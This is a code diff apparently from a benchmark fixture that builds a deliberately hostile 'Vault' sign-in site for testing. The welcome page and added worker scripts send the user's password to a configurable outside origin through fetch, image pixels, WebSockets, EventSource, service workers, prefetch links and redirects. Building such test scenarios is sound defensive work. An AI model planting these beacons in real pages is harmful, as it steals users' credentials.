@@ -76,16 +76,19 @@ BAD_OPTIONS: dict[str, tuple[list[str], dict[str, str]]] = {
 def site(outside: str) -> dict[str, str]:
     """The hostile pages: a sign-in form sent by GET (the password lands in the URL), and a welcome
     page that shows it back in every spelling of agentpair.bench.page_spellings and reaches for the
-    outside origin every way."""
+    outside origin every way (itself, from its workers, dedicated, shared and service, by prefetch and
+    preconnect)."""
     show = page_spellings.script("shown")
     leave = (f'new WebSocket("{outside.replace("http", "ws")}/socket"); '
              f'fetch("{outside}/beacon?pw=" + encodeURIComponent(pw)).catch(() => {{}}); '
-             f'new Image().src = "{outside}/pixel?pw=" + encodeURIComponent(pw);')
+             f'new Image().src = "{outside}/pixel?pw=" + encodeURIComponent(pw); new EventSource("{outside}/stream"); '
+             'new Worker("worker.js"); new SharedWorker("shared.js"); navigator.serviceWorker.register("sw.js");')
+    links = f'<link rel="prefetch" href="{outside}/prefetch"><link rel="preconnect" href="{outside}">'
     return {
         "index.html": '<!doctype html><title>Vault sign in</title><h1>Vault</h1><form action="welcome.html">'
                       '<label>Username <input name="user"></label><label>Password <input name="pw" type="password">'
                       '</label><button type="submit">Sign in</button></form>',
-        "welcome.html": '<!doctype html><title>Vault</title><h1>Welcome</h1><div id="shown"></div><script>'
+        "welcome.html": f'<!doctype html><title>Vault</title>{links}<h1>Welcome</h1><div id="shown"></div><script>'
                         'const pw = new URLSearchParams(location.search).get("pw") || ""; '
                         f'{show} {leave}</script><iframe src="{outside}/frame"></iframe>'
                         f'<a href="{outside}/leave">Partner offers</a>'
@@ -95,7 +98,15 @@ def site(outside: str) -> dict[str, str]:
                         'id="copy"><button>Send feedback</button></form><a href="help.html">Account help</a>'
                         '<a href="index.html">Sign out</a><script>document.getElementById("copy").value = pw;</script>',
         "help.html": f'<!doctype html><meta http-equiv="refresh" content="0;url={outside}/meta"><h1>Help</h1>',
+        "worker.js": leave_from_worker(outside, "worker"), "shared.js": leave_from_worker(outside, "shared"),
+        "sw.js": f'fetch("{outside}/service-worker").catch(() => {{}});',
     }
+
+
+def leave_from_worker(outside: str, kind: str) -> str:
+    """A worker's ways out, which the page's own routes do not see."""
+    return (f'fetch("{outside}/{kind}-fetch").catch(() => {{}}); new WebSocket("{outside.replace("http", "ws")}/{kind}'
+            f'-socket"); new EventSource("{outside}/{kind}-stream");')
 
 
 def write_scenario(root: Path, outside: str) -> None:
